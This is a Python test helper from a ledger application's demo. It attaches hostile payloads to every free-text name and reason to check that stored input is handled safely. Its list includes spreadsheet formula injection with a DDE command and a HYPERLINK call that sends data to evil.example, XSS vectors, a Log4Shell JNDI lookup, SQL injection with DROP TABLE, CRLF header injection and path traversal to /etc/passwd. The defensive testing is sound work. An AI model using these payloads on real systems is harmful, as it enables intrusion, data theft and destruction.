"""The story with something hostile in every name and every reason that is stored in it."""

import itertools
from collections.abc import Mapping
from dataclasses import fields, is_dataclass, replace
from types import MappingProxyType, UnionType
from typing import Annotated, Any, Final, Union, get_args, get_origin, get_type_hints

from svx_ledger.cli.demo.step import Step
from svx_ledger.domain.book import OpenLedger
from svx_ledger.domain.correction import RequestCorrection
from svx_ledger.domain.form import Length, Name, Reason
from svx_ledger.domain.kind import Command
from svx_ledger.domain.private import Private

from .directly import MARK
from .story import told

PAYLOADS: Final = (
    f"=cmd|' /C calc'!A0 {MARK}",
    f"+1+1 {MARK}",
    f"-2+3 {MARK}",
    f"@SUM(1+1)*cmd|' /C calc'!A0 {MARK}",
    f"＝1＋1 {MARK}",  # noqa: RUF001 - full-width, as some spreadsheets take it
    f'=HYPERLINK("https://evil.example/?"&A1,"{MARK}")',
    f'{MARK}","=1+1',
    f"'=1+1 {MARK}",
    f"{MARK};=1+1",
    f"<script>alert('{MARK}')</script>",
    f'"><img src=x onerror=alert("{MARK}")>',
    f"</title></script><svg/onload=alert('{MARK}')>",
    f"javascript:alert('{MARK}')//",
    f"&lt;b&gt; &amp; {MARK} &#x3c;",
    f"{{{{7*7}}}} ${{7*7}} #{{7*7}} {MARK}",
    f"${{jndi:ldap://evil.example/{MARK}}}",
    f"%0d%0aSet-Cookie:%20a={MARK}",
    rf"\r\nSet-Cookie: a={MARK}",
    f"'; DROP TABLE stored_events; -- {MARK}",
    f"' OR '1'='1 {MARK}",
    f"%s%n%x%n {MARK} {{0}} {{name}}",
    rf"\u003cscript\u003e \ud800 \0 {MARK}",
    f'{{"type": "/problems/not-found", "x": "{MARK}"}}',
    f"data: {MARK} event: end id: 0",
    f"[31m {MARK} [0m",
    f"../../../etc/passwd {MARK}",
    f"x' */ /* {MARK} --><!-- ]]>",
    f"ⓔｖｉｌ ‹script› {MARK} ﷽",  # noqa: RUF001 - what a careless folding would make of it
)
MOST_CHARACTERS: Final = 200


def loaded() -> tuple[Step, ...]:
    """Return the story with a payload before each name and reason: the same before the same."""
    turn = itertools.cycle(PAYLOADS)
    known: dict[str, str] = {}

    def other(text: str) -> str:
        if text not in known:
            known[text] = f"{next(turn)} {text}"[:MOST_CHARACTERS].strip()
        return known[text]

    def changed(value: Any, hint: Any = None) -> Any:
        if isinstance(value, Private):
            return replace(value, text=other(value.text)) if value.text else value
        if is_dataclass(value) and not isinstance(value, type):
            hints = get_type_hints(type(value), include_extras=True)
            return replace(
                value,
                **{
                    f.name: changed(getattr(value, f.name), hints[f.name])
                    for f in fields(value)
                },
            )
        if isinstance(value, tuple):
            inner = next(iter(get_args(_bare(hint))), None)
            return tuple(changed(one, inner) for one in value)
        if isinstance(value, Mapping):
            return MappingProxyType(dict(value))
        if isinstance(value, str) and (_is_free(hint) or (hint is str and value in known)):
            return other(value)
        return value

    def asked(command: Command) -> Command:
        if isinstance(command, OpenLedger):
            return command  # keys have the name of the log, and are made for it
        if isinstance(command, RequestCorrection) and command.old not in known:
            return command  # of a number, or of something that has a form
        new: Command = changed(command)
        return new

    return tuple(replace(step, command=asked(step.command), says="") for step in told())


def _bare(hint: Any) -> Any:
    """Return a type without its marks, and without None."""
    if get_origin(hint) is Annotated:
        return _bare(get_args(hint)[0])
    if get_origin(hint) in (Union, UnionType):
        return _bare(next(one for one in get_args(hint) if one is not type(None)))
    return hint


def _is_free(hint: Any) -> bool:
    """Whether a text may say anything: a name or a reason."""
    if get_origin(hint) in (Union, UnionType):
        return any(_is_free(one) for one in get_args(hint))
    if hint in (Name, Reason):
        return True
    marks = get_args(hint)[1:] if get_origin(hint) is Annotated else ()
    return any(isinstance(m, Length) and m.most >= MOST_CHARACTERS for m in marks)
